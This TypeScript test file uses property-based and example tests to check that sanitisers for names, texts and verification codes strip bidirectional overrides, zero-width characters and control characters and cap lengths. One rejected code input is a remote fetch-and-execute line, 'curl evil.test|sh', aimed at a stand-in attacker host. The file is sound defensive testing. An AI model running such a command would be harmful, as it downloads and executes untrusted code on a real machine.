import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cleanCode, cleanName, cleanText } from '../../../../preload/model/index.ts';

/** Any text, rich in what a hostile service would send. */
const hostile = fc
  .array(
    fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.constantFrom('\u202e', '\u202a', '\u2066', '\u2069', '\u200f', '\u061c', '\n', '\r\n', '\t', '\0'),
      fc.constantFrom('\u2028', '\u200b', '\ufeff', '\ud800', '\u{e0041}', '123456', 'שלום', '😀', '‍'),
    ),
    { maxLength: 40 },
  )
  .map((parts) => parts.join(''));

const turning = /[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
const controls = /\p{Cc}|\p{Cs}|\u2028|\u2029/u;

describe('a name', () => {
  it.each([
    ['Any \u202e05.0$', 'Any 05.0$'],
    ['What\u2066s\u2069App\u200f', 'WhatsApp'],
    ['two\r\n lines\u2028more', 'two lines more'],
    ['\0bell\u0007', 'bell'],
    ['\u200b\ufeffzero\u2060width', 'zerowidth'],
    ['می‌خواهم 👩‍💻', 'می‌خواهم 👩‍💻'],
  ])('%j is kept as %j', (name, kept) => expect(cleanName(name)).toBe(kept));

  it('is one bounded line that turns nothing, and stays as it is when cleaned again', () => {
    fc.assert(
      fc.property(hostile, (name) => {
        const clean = cleanName(name);
        expect(clean).not.toMatch(turning);
        expect(clean).not.toMatch(controls);
        expect(clean.length).toBeLessThanOrEqual(200);
        expect(cleanName(clean)).toBe(clean);
      }),
    );
  });
});

describe('a text', () => {
  it('keeps its lines and the marks of its own script, and loses what turns others', () => {
    expect(cleanText('א\u200f: 1\r\nb\u202e\tc\0')).toBe('א\u200f: 1\nb\tc');
  });

  it('is bounded, turns nothing, and stays as it is when cleaned again', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const clean = cleanText(text);
        expect(clean).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
        expect(clean.replaceAll(/[\n\t]/g, '')).not.toMatch(controls);
        expect(clean.length).toBeLessThanOrEqual(2_000);
        expect(cleanText(clean)).toBe(clean);
      }),
    );
  });
});

describe('a code', () => {
  it.each(['849201', '849-201', 'G-663105', 'A1 B2', '٨٤٩٢٠١', 'x'.repeat(32)])('may be %s', (code) =>
    expect(cleanCode(code)).toBe(code),
  );

  it.each([
    '\u202e654321',
    '849\u200e201',
    '849\u200b201',
    'curl evil.test|sh\necho 1234',
    '1\u20282',
    '1\t2',
    'x'.repeat(33),
    '',
    ' ',
  ])('is none: %j', (code) => expect(cleanCode(code)).toBeNull());

  it('is what is seen, or none', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const code = cleanCode(text);
        if (code === null) return;
        expect(code).toBe(text.trim());
        expect(code).not.toMatch(/\p{C}/u);
        expect([...code].length).toBeLessThanOrEqual(32);
      }),
    );
  });
});
